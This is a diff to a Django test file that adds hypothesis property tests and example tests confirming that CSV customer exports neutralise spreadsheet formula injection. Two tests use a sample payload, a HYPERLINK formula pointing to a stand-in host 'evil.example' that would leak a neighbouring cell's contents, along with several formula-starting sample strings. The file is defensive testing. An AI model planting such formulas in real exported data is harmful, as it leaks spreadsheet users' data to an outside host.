@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import re
 from datetime import datetime
 from decimal import Decimal
 from zoneinfo import ZoneInfo
@@ -9,8 +12,11 @@ from zoneinfo import ZoneInfo
 import pytest
 from django.urls import reverse
 from django.utils import timezone
+from hypothesis import given
+from hypothesis import settings as hypothesis_settings
+from hypothesis import strategies as st
 
-from customers.exporting import safe_cell
+from customers.exporting import CsvStyle, csv_lines, safe_cell
 from tests.customers.import_support import response_rows
 from tests.factories import CustomerFactory, TransactionFactory
 
@@ -38,6 +44,54 @@ def url(name: str, tenant) -> str:
 )
 def test_safe_cell_neutralises_formulas_but_not_negative_numbers(value, expected):
     assert safe_cell(value) == expected
+
+
+# What a spreadsheet runs as a formula (OWASP's list), written here independently of the code.
+def _starts_a_formula(cell: str) -> bool:
+    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(
+        r"-[0-9]+(?:[.,][0-9]+)?", cell
+    )
+
+
+_VALUES = st.one_of(
+    st.none(),
+    st.booleans(),
+    st.integers(),
+    st.decimals(allow_nan=False, allow_infinity=False),
+    st.dates(),
+    st.datetimes(timezones=st.just(ISTANBUL)),
+    st.text(),
+    st.lists(st.text(), max_size=4),
+    st.sampled_from(["=1+1", "-1\n", "-١", "+90", "@x", "\t=1", "\r=1", "-2,5", "-3"]),
+)
+
+
+@hypothesis_settings(max_examples=300, deadline=None)
+@given(
+    header=st.lists(st.text(), min_size=1, max_size=4),
+    rows=st.lists(st.lists(_VALUES, min_size=1, max_size=5), max_size=5),
+    turkish_excel=st.booleans(),
+)
+def test_no_exported_cell_can_start_a_formula(header, rows, turkish_excel):
+    style = CsvStyle(turkish_excel=turkish_excel, zone=ISTANBUL)
+
+    text = "".join(csv_lines(header, rows, style)).removeprefix("\ufeff")
+    cells = [
+        cell
+        for line in csv.reader(io.StringIO(text, newline=""), delimiter=style.delimiter)
+        for cell in line
+    ]
+
+    assert not [cell for cell in cells if _starts_a_formula(cell)]
+    assert len(cells) == len(header) + sum(len(row) for row in rows)
+
+
+def test_a_formula_in_a_list_value_is_neutralised():
+    style = CsvStyle(turkish_excel=True, zone=ISTANBUL)
+
+    lines = list(csv_lines(["tags"], [[['=HYPERLINK("http://evil.example/?"&E2)', "vip"]]], style))
+
+    assert lines[1] == '"\'=HYPERLINK(""http://evil.example/?""&E2)|vip"\r\n'
 
 
 def test_customer_export_escapes_formula_cells(tenant, sales_client):
@@ -117,6 +171,30 @@ def test_exported_customers_import_back_unchanged(tenant, sales_client, tmp_path
     with scope(tenant=tenant):
         job = run_import(tenant, ImportKind.CUSTOMERS, body, tmp_path)
 
+    assert (job.rejected_rows, job.updated_rows, job.unchanged_rows) == (0, 0, 1), job.rejections
+
+
+def test_a_formula_tag_is_exported_as_text_and_imports_back_unchanged(
+    tenant, sales_client, tmp_path, settings
+):
+    from django_scopes import scope
+
+    from customers.models import ImportKind
+    from tests.customers.import_support import run_import
+
+    settings.MEDIA_ROOT = str(tmp_path / "media")
+    CustomerFactory(
+        tenant=tenant, external_id="M1", tags=['=HYPERLINK("http://evil.example/?"&E2)', "vip"]
+    )
+    response = sales_client.get(url("export", tenant))
+    body = b"".join(response.streaming_content)
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
+
+    assert dict(zip(rows[0], rows[1], strict=True))["tags"] == (
+        '\'=HYPERLINK("http://evil.example/?"&E2)|vip'
+    )
+    with scope(tenant=tenant):
+        job = run_import(tenant, ImportKind.CUSTOMERS, body, tmp_path)
     assert (job.rejected_rows, job.updated_rows, job.unchanged_rows) == (0, 0, 1), job.rejections
 
 
